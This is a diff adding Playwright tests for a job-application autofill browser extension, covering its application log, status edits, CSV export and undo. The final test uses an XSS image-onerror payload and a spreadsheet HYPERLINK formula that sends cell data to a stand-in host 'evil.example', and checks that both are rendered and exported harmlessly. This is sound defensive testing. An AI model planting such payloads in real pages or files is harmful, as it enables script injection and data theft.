@@ -1,0 +1,143 @@
+import type { Page, Worker } from '@playwright/test';
+import { readFile } from 'node:fs/promises';
+import path from 'node:path';
+import { csvParseRows } from 'd3-dsv';
+import type { FillReport } from '../../core/contract';
+import { expect, test } from './fixtures';
+import { loadFixtures, loadProfile, openSession, sendFromExtensionPage, serveFixture, tabIdOf, useProfile, type Session } from './autofill-harness';
+
+const classic = loadFixtures().find((spec) => spec.ats === 'greenhouse' && spec.file === 'classic.html')!;
+
+const storedLog = (background: Worker): Promise<any> => background.evaluate(async () => (await chrome.storage.local.get('applications')).applications ?? null);
+
+/** The page handles its own submit, as ATS pages do (no navigation in the test). */
+const keepSubmitsInPage = (page: Page) => page.evaluate(() => document.addEventListener('submit', (event) => event.preventDefault()));
+
+async function openGreenhouse(session: Session): Promise<{ page: Page; tabId: number }> {
+  await serveFixture(session.context, classic);
+  // The same page at an address with tracking parameters, as links from job boards carry.
+  const html = await readFile(path.join(classic.dir, classic.file), 'utf8');
+  await session.context.route((url) => url.href.startsWith(`${classic.url}?`), (route) => route.fulfill({ contentType: 'text/html', body: html }));
+  await useProfile(session.background, loadProfile('rich'), true);
+  const page = await session.context.newPage();
+  await page.goto(classic.url + '?gh_src=linkedin&utm_source=newsletter');
+  await keepSubmitsInPage(page);
+  return { page, tabId: await tabIdOf(session.background, page) };
+}
+
+async function openLog(session: Session): Promise<Page> {
+  const options = await session.context.newPage();
+  await options.goto(new URL('/options.html#applications', session.popup.url()).href);
+  return options;
+}
+
+test('a fill records the job; the form’s submit makes it Applied; a second fill updates the same entry; the CSV parses back', async () => {
+  const session = await openSession();
+  try {
+    const { page, tabId } = await openGreenhouse(session);
+    const report = await sendFromExtensionPage<FillReport>(session.popup, { type: 'autofill', tabId });
+    expect(report.filled).toBeGreaterThan(5);
+    await expect.poll(() => storedLog(session.background)).toMatchObject([
+      {
+        url: 'https://boards.greenhouse.io/acmerobotics/jobs/4012345',
+        company: 'Acme Robotics',
+        role: 'Senior Backend Engineer',
+        ats: 'greenhouse',
+        status: 'filled',
+        filled: report.filled,
+      },
+    ]);
+
+    await page.locator('#submit_app').click();
+    await expect.poll(async () => (await storedLog(session.background))?.[0]?.status).toBe('applied');
+    const firstFill = (await storedLog(session.background))[0].filledAt;
+
+    // The same job opened again later (its form empty again) and filled again.
+    await page.goto(classic.url);
+    await keepSubmitsInPage(page);
+    await sendFromExtensionPage<FillReport>(session.popup, { type: 'autofill', tabId: await tabIdOf(session.background, page) });
+    await expect.poll(async () => (await storedLog(session.background))[0].filledAt).not.toBe(firstFill);
+    const log = await storedLog(session.background);
+    expect(log).toHaveLength(1);
+    expect(log[0]).toMatchObject({ status: 'applied', company: 'Acme Robotics' });
+
+    const options = await openLog(session);
+    const section = options.getByRole('region', { name: 'Applications' });
+    await expect(section.getByRole('heading', { name: 'Acme Robotics: Senior Backend Engineer' })).toBeVisible();
+    await expect(section.getByLabel('Status')).toHaveValue('applied');
+    await section.getByLabel('Note').fill('Recruiter: Sam');
+    await section.getByLabel('Note').blur();
+    await section.getByLabel('Status').selectOption('interview');
+    await expect.poll(async () => (await storedLog(session.background))[0]).toMatchObject({ status: 'interview', note: 'Recruiter: Sam' });
+
+    const [download] = await Promise.all([options.waitForEvent('download'), section.getByRole('button', { name: 'Save the log as CSV' }).click()]);
+    const csv = await readFile(await download.path(), 'utf8');
+    expect(csv.startsWith('\uFEFF')).toBe(true);
+    const rows = csvParseRows(csv.slice(1));
+    expect(rows[0]).toEqual(['company', 'role', 'ats', 'url', 'status', 'filled_at', 'applied_at', 'note']);
+    expect(rows.slice(1)).toEqual([
+      ['Acme Robotics', 'Senior Backend Engineer', 'greenhouse', 'https://boards.greenhouse.io/acmerobotics/jobs/4012345', 'interview', log[0].filledAt, log[0].appliedAt, 'Recruiter: Sam'],
+    ]);
+
+    // The popup counts it, and delete → undo brings it back.
+    const popup = await session.context.newPage();
+    await popup.goto(session.popup.url());
+    await expect(popup.getByText('1 application this week')).toBeVisible();
+    await section.getByRole('button', { name: 'Delete Acme Robotics: Senior Backend Engineer' }).click();
+    await expect.poll(() => storedLog(session.background)).toEqual([]);
+    await section.getByRole('button', { name: 'Undo', exact: true }).click();
+    await expect.poll(async () => (await storedLog(session.background)).length).toBe(1);
+  } finally {
+    await session.close();
+  }
+});
+
+test('with recording off, a fill writes nothing to the log', async () => {
+  const session = await openSession();
+  try {
+    await session.background.evaluate(() => chrome.storage.local.set({ settings: { recordApplications: false } }));
+    const { tabId } = await openGreenhouse(session);
+    const report = await sendFromExtensionPage<FillReport>(session.popup, { type: 'autofill', tabId });
+    expect(report.filled).toBeGreaterThan(5);
+    // The report is kept for the card after the answer; the log would be written in the same step.
+    await expect.poll(() => session.background.evaluate(async (id) => Boolean((await chrome.storage.session.get(`lastFill:${id}`))[`lastFill:${id}`]), tabId)).toBe(true);
+    expect(await storedLog(session.background)).toBeNull();
+  } finally {
+    await session.close();
+  }
+});
+
+test('a hostile page title and company are shown as text and exported as text', async () => {
+  const hostileRole = '<img src=x onerror="window.__pwned=1">Engineer';
+  const hostileCompany = '=HYPERLINK("https://evil.example/?"&A1,"Acme")';
+  const session = await openSession();
+  try {
+    const url = 'https://boards.greenhouse.io/evil/jobs/1';
+    const escape = (text: string) => text.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/"/g, '&quot;');
+    await session.context.route(url, (route) =>
+      route.fulfill({
+        contentType: 'text/html',
+        body: `<!doctype html><title>Job Application</title><h1 class="app-title">${escape(hostileRole)}</h1><span class="company-name">${escape(hostileCompany)}</span>
+          <form><label for="fn">First Name</label><input id="fn" name="job_application[first_name]"><label for="em">Email</label><input id="em" type="email" name="job_application[email]">
+          <label for="cv">Resume/CV</label><input id="cv" type="file" name="job_application[resume]"></form>`,
+      }),
+    );
+    await useProfile(session.background, loadProfile('rich'), true);
+    const page = await session.context.newPage();
+    await page.goto(url);
+    await sendFromExtensionPage<FillReport>(session.popup, { type: 'autofill', tabId: await tabIdOf(session.background, page) });
+    await expect.poll(async () => (await storedLog(session.background))?.[0]).toMatchObject({ role: hostileRole, company: hostileCompany });
+
+    const options = await openLog(session);
+    const section = options.getByRole('region', { name: 'Applications' });
+    await expect(section.getByRole('heading', { level: 4 })).toHaveText(`${hostileCompany}: ${hostileRole}`);
+    expect(await options.locator('#applications img').count()).toBe(0);
+    expect(await options.evaluate(() => (window as unknown as { __pwned?: number }).__pwned)).toBeUndefined();
+    const [download] = await Promise.all([options.waitForEvent('download'), section.getByRole('button', { name: 'Save the log as CSV' }).click()]);
+    const row = csvParseRows((await readFile(await download.path(), 'utf8')).slice(1))[1]!;
+    expect(row[0]).toBe(`'${hostileCompany}`);
+    expect(row[1]).toBe(hostileRole);
+  } finally {
+    await session.close();
+  }
+});
